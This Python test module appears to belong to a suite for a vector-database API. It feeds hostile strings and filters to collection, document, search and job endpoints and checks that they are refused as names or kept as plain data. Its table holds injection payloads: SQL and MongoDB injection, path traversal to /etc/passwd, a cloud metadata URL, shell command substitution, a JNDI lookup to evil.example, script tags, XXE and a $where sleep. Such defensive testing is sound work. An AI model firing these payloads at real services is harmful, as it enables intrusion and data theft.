"""Requests with hostile strings and filters: refused where a name belongs, mere data where a value does."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import partial
from typing import Any

from support.drivers.gateway import Answer
from support.vocabulary.requests import documents
from support.vocabulary.requests.grammar import Asking, Call, request

LONGEST_VALUE = 4096
# None of them can be a name; all but the longest and the one with NUL can be a value.
STRINGS: Mapping[str, str] = {
    "SQL condition": "x' OR '1'='1",
    "SQL statement": "'); DROP TABLE users; --",
    "MongoDB operator": '{"$ne": null}',
    "path traversal": "../../../etc/passwd",
    "encoded path traversal": "..%2f..%2fetc%2fpasswd",
    "Windows path": "C:\\Windows\\win.ini",
    "URL of cloud metadata": "http://169.254.169.254/latest/meta-data/",
    "template expressions": "{{7*7}}${7*7}#{7*7}",
    "shell commands": "$(id)`id`|id;id",
    "JNDI lookup": "${jndi:ldap://evil.example/a}",
    "format specifiers": "%s%n{0.__class__}",
    "script tag": "<script>alert(1)</script>",
    "XML external entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "header injection": "x\r\nX-Injected: 1",
    "terminal escape": "\x1b[31mred",
    "NUL": "x\x00y",
    "Cyrillic look-alike": "h\u0430ndbook",
    "fullwidth letters": "\uff48\uff41\uff4e\uff44\uff42\uff4f\uff4f\uff4b",
    "combining accent": "e\u0301",
    "right-to-left override": "\u202egnp.exe",
    "zero-width space": "hand\u200bbook",
    "wildcard": "*",
    "space": " ",
    "5000 letters": "a" * 5000,
}
# A store's own language, or code, where a condition belongs.
FILTERS: Mapping[str, object] = {
    "conditions of Qdrant": {"must": [{"key": "lang", "match": {"value": "en"}}]},
    "a negation of Qdrant": {"must_not": [{"has_id": [1]}]},
    "a match of Qdrant": {"lang": {"match": {"value": "en"}}},
    "a MongoDB operator": {"lang": {"$ne": None}},
    "a MongoDB function": {"lang": {"$where": "sleep(1000)"}},
    "a regular expression": {"lang": {"$regex": "(a+)+$"}},
    "an object among the choices": {"lang": {"any": [{"$ne": 1}]}},
    "a path into the payload": {"citadel.version": 1},
    "a path into a list": {"tags[0]": 1},
    "an empty name": {"": ""},
    "no condition": {},
    "a list of conditions": [{"lang": "en"}],
    "Python code": "lang == 'en' or True",
    "a bound that is text": {"lang": {"gt": "a' OR '1'='1"}},
    "17 conditions": {f"key_{number}": number for number in range(17)},
    "10,000 choices": {"lang": {"any": list(range(10_000))}},
}


@request("uses every hostile string as {hostile_place}", "uses every hostile string as the id of a document")
def use_as(ask: Asking, place: str) -> list[Call]:
    """Makes one request for each hostile string, in a place where no such string may stand."""
    ask.world.wrote = True
    return [
        Call(f"{ask.actor} uses the {name} as {place}", partial(PLACES[place], ask, string))
        for name, string in STRINGS.items()
    ]


@request("stores every hostile string in a document", "stores every hostile string in a document")
def store(ask: Asking) -> list[Call]:
    """Inserts a document for each hostile string, with it in its text and in its metadata."""
    text, metadata = documents.CONTENT["text"], documents.CONTENT["metadata.<name>"]
    contents = {
        item: {text: f"It says: {string}", metadata: {"word": string, "words": [string, "other"]}}
        for item, string in _values().items()
    }
    return [
        call
        for item, options in contents.items()
        for call in documents.store(replace(ask, options=options), item)
    ]


@request("filters for every hostile string", "filters for every hostile string")
def filter_for(ask: Asking) -> list[Call]:
    """Searches for each hostile string by its metadata; the document stored with it is the right answer."""
    return [
        Call(
            f"{ask.actor} filters for {item} in {name}",
            partial(_search, ask, filter={name: string}, limit=len(STRINGS)),
            about=(item,),
        )
        for item, string in _values().items()
        for name in ("word", "words")
    ]


@request("searches with every hostile filter", "searches with every hostile filter")
def search_with(ask: Asking) -> list[Call]:
    """Searches with filters in the languages of stores and of programs, and with ones that are too large."""
    return [
        Call(f"{ask.actor} filters by {name}", partial(_search, ask, filter=conditions))
        for name, conditions in FILTERS.items()
    ]


def _values() -> dict[str, str]:
    """The strings that can be values, by the id of the document that holds each."""
    return {
        name.replace(" ", "-"): string
        for name, string in STRINGS.items()
        if "\x00" not in string and len(string) <= LONGEST_VALUE
    }


def _insert(ask: Asking, **members: Any) -> Answer:
    body = {"collection": ask.collection, "id": "hostile", "text": "A text.", **members}
    return ask.call("insertVector", json_body=body)


def _search(ask: Asking, **members: Any) -> Answer:
    return ask.call(
        "searchVectors", json_body={"collection": ask.collection, "query_text": "a text", **members}
    )


def _create(ask: Asking, string: str) -> Answer:
    # With the prefix, so that one that is made in spite of its name is found and removed.
    body = {"name": f"{ask.world.names.prefix}{string}", "vector_size": 4}
    return ask.call("createCollection", json_body=body)


def _embed(ask: Asking, string: str) -> Answer:
    body = {"texts": ["a text"], "failover": [string]}
    return ask.call("embedWithProvider", provider="openai", json_body=body)


def _list(ask: Asking, string: str) -> Answer:
    return ask.call("listVectors", collection=ask.collection, query={"cursor": string})


Place = Callable[[Asking, str], Answer]


def _in_path(operation: str, name: str) -> Place:
    return lambda ask, string: ask.call(operation, **{name: string})


PLACES: Mapping[str, Place] = {
    "the name of a collection": _in_path("getCollection", "collection"),
    "the name of a new collection": _create,
    "the collection of a search": lambda ask, string: _search(ask, collection=string),
    "the id of a document": lambda ask, string: ask.call(
        "getVector", collection=ask.collection, vector_id=string
    ),
    "the id of a new document": lambda ask, string: _insert(ask, id=string),
    "the name of a metadata value": lambda ask, string: _insert(ask, metadata={string: 1}),
    "the name in a filter": lambda ask, string: _search(ask, filter={string: 1}),
    "the operator of a filter": lambda ask, string: _search(ask, filter={"lang": {string: 1}}),
    "a field of a search": lambda ask, string: _search(ask, **{string: 1}),
    "the model of a document": lambda ask, string: _insert(ask, model=string),
    "the name of a model": _in_path("getModel", "model"),
    "the name of a provider": _in_path("getProviderStatus", "provider"),
    "a provider to fail over to": _embed,
    "the id of a job": _in_path("getJobStatus", "job_id"),
    "the status of jobs to list": lambda ask, string: ask.call("listJobs", query={"status": string}),
    "the cursor of a list": _list,
    "the size of a page": lambda ask, string: ask.call("listCollections", query={"limit": string}),
}
